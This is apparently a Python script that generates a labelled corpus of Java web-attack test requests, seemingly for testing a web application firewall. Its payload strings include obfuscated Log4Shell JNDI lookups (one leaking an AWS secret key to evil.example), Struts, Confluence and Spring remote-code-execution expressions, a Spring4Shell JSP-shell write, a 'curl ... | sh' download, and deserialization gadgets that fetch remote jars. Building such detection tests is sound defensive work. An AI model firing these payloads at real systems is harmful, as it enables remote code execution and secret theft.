"""Java attacks: ``attacks/1100-java.yaml``.

JNDI lookups (Log4Shell) with their obfuscations in the headers attackers
spray (User-Agent, X-Api-Version, Referer, X-Forwarded-For, Authorization)
and in arguments; OGNL (Struts S2-045 in Content-Type, S2-016 redirect:,
Confluence CVE-2022-26134 in the path); Spring EL and other expression
languages; Spring4Shell's ``class.module.classLoader`` parameters; Spring
Cloud Function's routing-expression header; serialized Java objects (base64
``rO0AB`` in a JSF ViewState, a cookie, JSON; hex; a raw
``application/x-java-serialized-object`` body); gadget classes in
Fastjson/Jackson JSON, SnakeYAML and XStream XML.

Log4j lookups are case-insensitive, so the mixed-case variants are real.
"""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import quote, quote_plus

from attacks_xss import ftw_safe
from common import (
    API_HEADERS,
    BROWSER_HEADERS,
    case,
    cases,
    header_safe,
    in_header,
    request,
    write,
)

FAMILY = "java"

JNDI: list[str] = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${jndi:dns://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:http://evil.example/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "${jndi:ldap://${sys:java.version}.evil.example/a}",
    "${${::-j}ndi:ldap://evil.example/a}",
    "${jn${lower:d}i:ldap://evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}",
    "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}",
    "${${::-J}NDI:LDAP://evil.example/a}",
    "${${lower:${lower:jndi}}:ldap://evil.example/a}",
    "${j${::-nD}i:ldap://evil.example/a}",
]

OGNL: list[str] = [
    ("%{(#_memberAccess['allowStaticMethodAccess']=true)."
     "(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,"
     "#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess'),"
     "#f.setAccessible(true),#f.set(#_memberAccess,true),"
     "@java.lang.Runtime@getRuntime().exec('id')}"),
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    ("%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'}))"
     ".redirectErrorStream(true).start()}"),
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime()"
     ".exec('id').getInputStream(),'utf-8'))"
     ".(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}"),
    "(#_memberAccess['allowStaticMethodAccess']=true)(#cmd='id')",
]

EL: list[str] = [
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{''.getClass().forName('java.lang.Runtime')}",
    "${pageContext.request.getSession().getServletContext().getRealPath('/')}",
    "${facesContext.getExternalContext().getRequestParameterMap()}",
    ("${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime()"
     ".exec('id').getInputStream())}"),
    ('#{session.setAttribute("rtc","".getClass().forName("java.lang.Runtime")'
     '.getDeclaredConstructors()[0])}'),
    "def p = ['bash', '-c', 'curl http://evil.example/x.sh | sh'].execute(); println p.text",
    '"id".execute().text',
    "${applicationScope}",
    "#{request.getClass().getClassLoader()}",
    ("new javax.script.ScriptEngineManager().getEngineByName('js')"
     ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')"),
]

SERIALIZED_STREAM = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1"
                     b"\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp"
                     b"\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator")
SERIALIZED_B64 = base64.b64encode(SERIALIZED_STREAM).decode()
SERIALIZED_HEX = SERIALIZED_STREAM[:48].hex()


def build() -> list[dict[str, Any]]:
    tests: list[dict[str, Any]] = []
    headers = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"]
    for i, p in enumerate(JNDI):
        # Log4Shell mostly arrives in headers; half the payloads also in an argument.
        tests += cases_in_header(p, headers[i % len(headers)])
        if i % 2 == 0:
            where = ["query", "form", "json", "cookie", "path"][(i // 2) % 5]
            tests += cases([p], family=FAMILY, placements=[where])
        else:
            enc = ["double-url", "mixed-case", "unicode-u"][(i // 2) % 3]
            where = ["query", "form", "json", "multipart"][(i // 2) % 4]
            tests += cases([p], family=FAMILY, placements=[where], encodings=[enc])
    for i, p in enumerate(OGNL):
        tests += cases([p], family=FAMILY, placements=[["query", "form", "json"][i % 3]])
        if i % 3 == 0:
            tests += cases([p], family=FAMILY, placements=["multipart"], encodings=["double-url"])
    for i, p in enumerate(EL):
        where = ["query", "json", "form", "xml", "multipart", "cookie"][i % 6]
        tests += cases([p], family=FAMILY, placements=[where])
        if i % 4 == 1:
            tests += cases([p], family=FAMILY, placements=["query"], encodings=["unicode-u"])
    tests += cases(["${${lower:j}ndi:ldap://evil.example/a}"], family=FAMILY,
                   placements=["form"], encodings=["html-entity"])
    tests += hand_built()
    return tests


def cases_in_header(payload: str, name: str) -> list[dict[str, Any]]:
    if not header_safe(payload):
        return []
    inp = in_header(name)(payload)
    return [case(inp, family=FAMILY, attack=True, desc=f"{payload[:100]} in {name}",
                 tags=["placement:header", "encoding:plain"])]


def hand_built() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []

    def add(inp: dict[str, Any], desc: str, where: str, enc: str = "plain") -> None:
        out.append(case(inp, family=FAMILY, attack=True, desc=desc,
                        tags=[f"placement:{where}", f"encoding:{enc}"]))

    # Log4Shell in Authorization, in a cookie, in the path, in a login form.
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "Authorization": "Bearer ${jndi:ldap://evil.example/token}"}),
        "JNDI in Authorization: Bearer", "header")
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "X-Forwarded-Host": "${jndi:ldap://evil.example/h}"}),
        "JNDI in X-Forwarded-Host", "header")
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "Cookie": "JSESSIONID=${jndi:ldap://evil.example/c}"}),
        "JNDI in a raw cookie value", "cookie")
    add(request("GET", "/" + quote("${jndi:ldap://evil.example/p}", safe="") + "/index.html"),
        "JNDI in the path", "path")
    add(request("POST", "/login", {**BROWSER_HEADERS,
                                   "Content-Type": "application/x-www-form-urlencoded"},
                "username=" + quote_plus("${jndi:ldap://evil.example/u}") + "&password=x"),
        "JNDI in the login user name (logged on failure)", "form")
    # Struts S2-045: OGNL in Content-Type.
    s2_045 = ("%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
              "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony."
              "xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com."
              "opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames()"
              ".clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))"
              ")).(#cmd='id').(#cmds={'/bin/sh','-c',#cmd}).(#p=new java.lang.ProcessBuilder("
              "#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())}")
    add(request("POST", "/struts2-showcase/index.action",
                {**BROWSER_HEADERS, "Content-Type": s2_045}, "x=1"),
        "Struts S2-045: OGNL in Content-Type", "header")
    # Confluence CVE-2022-26134: OGNL in the path.
    conf = ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime()"
            ".exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork."
            "ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}")
    add(request("GET", "/" + quote(conf, safe="") + "/"),
        "Confluence CVE-2022-26134: OGNL in the path", "path")
    # Spring4Shell (CVE-2022-22965): class.module.classLoader parameters.
    add(request("POST", "/app/greeting", {**BROWSER_HEADERS,
                                          "Content-Type": "application/x-www-form-urlencoded"},
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
                "%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first."
                "suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first."
                "directory=webapps/ROOT&class.module.classLoader.resources.context.parent."
                "pipeline.first.prefix=shell&class.module.classLoader.resources.context.parent."
                "pipeline.first.fileDateFormat="),
        "Spring4Shell: class.module.classLoader form fields", "form-name")
    add(request("GET", "/app/greeting?class.module.classLoader.URLs%5B0%5D=0"),
        "Spring4Shell probe in a query key", "query-name")
    add(request("GET", "/app/greeting?class%5B'module'%5D%5B'classLoader'%5D"
                       ".DefaultAssertionStatus=1"),
        "class['module']['classLoader'] bracket form", "query-name")
    add(request("GET", "/struts/home.action?class.classLoader.resources.dirContext.docBase=/"),
        "Struts S2-020 class.classLoader", "query-name")
    # Spring Cloud Function (CVE-2022-22963): SpEL in a header.
    add(request("POST", "/functionRouter",
                {**API_HEADERS, "Content-Type": "text/plain",
                 "spring.cloud.function.routing-expression":
                     'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'},
                "data"),
        "Spring Cloud Function routing-expression SpEL header", "header")
    # Serialized objects.
    add(request("POST", "/faces/login.xhtml",
                {**BROWSER_HEADERS, "Content-Type": "application/x-www-form-urlencoded"},
                "javax.faces.ViewState=" + quote_plus(SERIALIZED_B64) + "&login=1"),
        "base64 serialized object in javax.faces.ViewState", "form", "base64")
    add(request("GET", "/account", {**BROWSER_HEADERS,
                                    "Cookie": "session=" + quote(SERIALIZED_B64, safe="")}),
        "base64 serialized object in a cookie", "cookie", "base64")
    add(request("POST", "/api/v1/import", {**API_HEADERS, "Content-Type": "application/json"},
                '{"format": "java", "blob": "' + SERIALIZED_B64 + '"}'),
        "base64 serialized object in JSON", "json", "base64")
    add(request("GET", "/api/v1/object?data=" + SERIALIZED_HEX),
        "hex serialized object in a query value", "query", "hex")
    raw = {**API_HEADERS, "Content-Type": "application/x-java-serialized-object"}
    inp = request("POST", "/invoker/JMXInvokerServlet", raw)
    inp["encoded_data"] = base64.b64encode(SERIALIZED_STREAM).decode()
    inp["headers"]["Content-Length"] = str(len(SERIALIZED_STREAM))
    add(inp, "raw serialized object body (JBoss JMXInvokerServlet)", "body", "raw")
    add(request("POST", "/api/v1/import", {**API_HEADERS, "Content-Type": "text/plain"},
                SERIALIZED_B64),
        "base64 serialized object as a text/plain body", "body", "base64")
    # Fastjson / Jackson polymorphic typing.
    json_h = {**API_HEADERS, "Content-Type": "application/json"}
    add(request("POST", "/api/v1/user", json_h,
                '{"@type":"com.sun.rowset.JdbcRowSetImpl",'
                '"dataSourceName":"ldap://evil.example:1389/Exploit","autoCommit":true}'),
        "Fastjson JdbcRowSetImpl", "json")
    add(request("POST", "/api/v1/user", json_h,
                '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},'
                '"b":{"@type":"com.sun.rowset.JdbcRowSetImpl",'
                '"dataSourceName":"rmi://evil.example:1099/Exploit","autoCommit":true}}'),
        "Fastjson 1.2.47 cache bypass", "json")
    add(request("POST", "/api/v1/user", json_h,
                '{"@type":"java.net.Inet4Address","val":"probe.evil.example"}'),
        "Fastjson DNS probe with java.net.Inet4Address", "json")
    add(request("POST", "/api/v1/user", json_h,
                '["ch.qos.logback.core.db.JNDIConnectionSource",'
                '{"jndiLocation":"ldap://evil.example:1389/Exploit"}]'),
        "Jackson default typing: logback JNDIConnectionSource", "json")
    add(request("POST", "/api/v1/user", json_h,
                '{"id":1,"obj":["org.springframework.context.support.'
                'FileSystemXmlApplicationContext","http://evil.example/spel.xml"]}'),
        "Jackson default typing: FileSystemXmlApplicationContext", "json")
    add(request("POST", "/api/v1/config", {**API_HEADERS, "Content-Type": "application/x-yaml"},
                '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader '
                '[[!!java.net.URL ["http://evil.example/yaml-payload.jar"]]]]'),
        "SnakeYAML ScriptEngineManager gadget (raw body)", "body")
    add(request("POST", "/api/v1/config", {**BROWSER_HEADERS,
                                           "Content-Type": "application/x-www-form-urlencoded"},
                "config=" + quote_plus('!!javax.script.ScriptEngineManager [!!java.net.'
                                       'URLClassLoader [[!!java.net.URL ["http://evil.example/'
                                       'x.jar"]]]]')),
        "SnakeYAML gadget in a form field", "form")
    add(request("POST", "/struts2-rest-showcase/orders/3", {**API_HEADERS,
                                                             "Content-Type": "application/xml"},
                '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>'
                '<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">'
                '<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.'
                'XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream">'
                '<cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.'
                'imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator">'
                '<iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.'
                'ProcessBuilder"><command><string>id</string></command></next></iter>'
                '<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.'
                'ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo'
                '</name></filter><next class="string">foo</next></serviceIterator></cipher>'
                '</is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.'
                'NativeString></entry></map>'),
        "XStream gadget (Struts S2-052) in an XML body", "xml")
    add(request("POST", "/api/v1/orders", {**API_HEADERS, "Content-Type": "application/xml"},
                '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable'
                '</interface><handler class="java.beans.EventHandler"><target class="java.lang.'
                'ProcessBuilder"><command><string>id</string></command></target><action>start'
                '</action></handler></dynamic-proxy></sorted-set>'),
        "XStream EventHandler gadget in an XML body", "xml")
    return out


def main() -> None:
    write("attacks/1100-java.yaml", 1100000, "Java: JNDI, OGNL, EL, deserialisation",
          ftw_safe(build()))


if __name__ == "__main__":
    main()
